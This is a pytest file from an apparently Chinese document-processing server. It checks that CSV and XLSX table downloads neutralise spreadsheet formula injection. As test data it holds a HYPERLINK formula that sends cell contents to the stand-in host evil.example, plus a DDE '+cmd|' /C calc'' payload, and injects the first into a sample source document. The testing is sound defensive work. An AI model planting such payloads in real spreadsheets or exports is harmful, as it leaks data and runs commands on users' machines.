"""Table downloads never hand a spreadsheet a formula from a source document (cold review: a duty title
`=HYPERLINK(…)` became a live formula in .xlsx and an unescaped cell in the CSV)."""

from __future__ import annotations

import csv
import io

import pytest
import requests
from openpyxl import load_workbook
from sparql_server import serve

from luzhi.etl.build import BuildOptions, build, bundled_documents
from luzhi.server.config import Config
from luzhi.server.tables import Table, to_csv, to_xlsx

BASE = "http://127.0.0.1:5000"
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


def test_formula_cells_are_text_and_numbers_stay_numbers():
    table = Table("t", ("=名称", "数量"), ((HOSTILE, -3), ("+cmd|' /C calc'!A0", 4), ("@SUM(A1)", None),
                                          ("-1+1", 5), ("安全生产", 6)))
    rows = list(csv.reader(io.StringIO(to_csv(table).decode("utf-8-sig"))))
    assert rows[0] == ["'=名称", "数量"]
    assert [r[0] for r in rows[1:]] == [f"'{HOSTILE}", "'+cmd|' /C calc'!A0", "'@SUM(A1)", "'-1+1", "安全生产"]
    assert rows[1][1] == "-3"  # a number is not text: no apostrophe
    sheet = load_workbook(io.BytesIO(to_xlsx(table))).active
    cells = [row for row in sheet.iter_rows(min_row=2)]
    assert [c[0].value for c in cells][:4] == [HOSTILE, "+cmd|' /C calc'!A0", "@SUM(A1)", "-1+1"]
    assert all(c[0].data_type == "s" for c in cells)  # text, not formulas
    assert cells[0][1].value == -3 and cells[0][1].data_type == "n"


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory):
    """Sample 003 with one duty title turned into a formula (line 166, cooperative duty 2)."""
    folder = tmp_path_factory.mktemp("formulas")
    source = next(p for p in bundled_documents() if p.name.startswith("003_"))
    lines = source.read_text(encoding="utf-8").splitlines(keepends=True)
    title = "对食品生产经营企业、食品小作坊、小餐饮、食品摊点安全监管"
    assert title in lines[165]
    lines[165] = lines[165].replace(title, HOSTILE, 1)
    edited = folder / source.name
    edited.write_text("".join(lines), encoding="utf-8")
    result = build([edited], folder / "store", BuildOptions(base=BASE, force=True))
    return folder / "store", result.documents[0].township_code


def test_downloads_of_a_hostile_document(hostile_store):
    store, code = hostile_store
    with serve(Config(store_path=store, base=BASE, query_processes=1, page_query_processes=1)) as server:
        url = f"{server.base}/doc/list/{code}/cooperative"
        as_csv = requests.get(f"{url}.csv", timeout=60)
        as_xlsx = requests.get(f"{url}.xlsx", timeout=60)
    assert as_csv.status_code == 200 and as_xlsx.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig"))) for cell in row]
    assert f"'{HOSTILE}" in cells and HOSTILE not in cells
    sheet = load_workbook(io.BytesIO(as_xlsx.content)).active
    found = [c for row in sheet.iter_rows() for c in row if c.value == HOSTILE]
    assert found and all(c.data_type == "s" for c in found)
